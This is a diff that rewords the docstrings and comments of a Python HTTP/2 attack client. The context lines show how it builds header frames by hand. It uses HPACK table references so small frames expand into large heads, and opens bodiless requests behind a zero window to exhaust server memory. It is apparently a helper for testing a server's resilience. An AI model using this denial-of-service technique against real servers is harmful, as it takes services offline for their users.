@@ -1,4 +1,4 @@
-"""An attacker's client of HTTP/2: frames by hand, and heads that are short on the wire only."""
+"""An attacker's HTTP/2 client: handmade frames, and compressed heads that expand to large ones."""
 
 from __future__ import annotations
 
@@ -34,10 +34,10 @@ def _value(length: int) -> bytes:
 
 
 class Http2Attacker:
-    """One connection, whose window for answers is nothing, so that they stay where they are.
+    """One connection with a window of zero, so that responses stay at the server.
 
     Args:
-        head_bytes: how long each head is once it is expanded.
+        head_bytes: the size of each head after decompression.
     """
 
     def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, head_bytes: int) -> None:
@@ -57,22 +57,22 @@ class Http2Attacker:
         return cls(reader, writer, head_bytes)
 
     def open_streams(self, count: int) -> None:
-        """Send so many heads of requests whose bodies never come."""
+        """Send this many heads of requests without their bodies."""
         for _ in range(count):
             self._last += 2
             fields = self._head_bytes // 4000
-            # The first one puts a field of 4,000 bytes into the table; each further one is a byte.
+            # The first adds a field of 4,000 bytes to the table; each later reference is one byte.
             first = b"\x40\x03x-x" + _value(3996) if self._last == 1 else _NEWEST
             block = _HEAD + first + _NEWEST * (fields - 1) if fields else _HEAD
             self._writer.write(_frame(_HEADERS, _END_HEADERS, self._last, block))
 
     async def flushed(self) -> None:
-        """Wait until what was sent is on its way."""
+        """Flush what was written."""
         with suppress(ConnectionError):
             await self._writer.drain()
 
     async def aclose(self) -> None:
-        """End the connection."""
+        """Close the connection."""
         self._reading.cancel()
         self._writer.transport.abort()
         await asyncio.gather(self._reading, return_exceptions=True)
@@ -88,7 +88,7 @@ class Http2Attacker:
 async def http2_attack(
     port: int, sources: list[str], streams: int, head_bytes: int
 ) -> AsyncIterator[list[Http2Attacker]]:
-    """One connection for each source, which may be there several times, with so many open requests on each."""
+    """One connection per source, which may repeat, with this many open requests each."""
     attackers = []
     try:
         for source in sources:
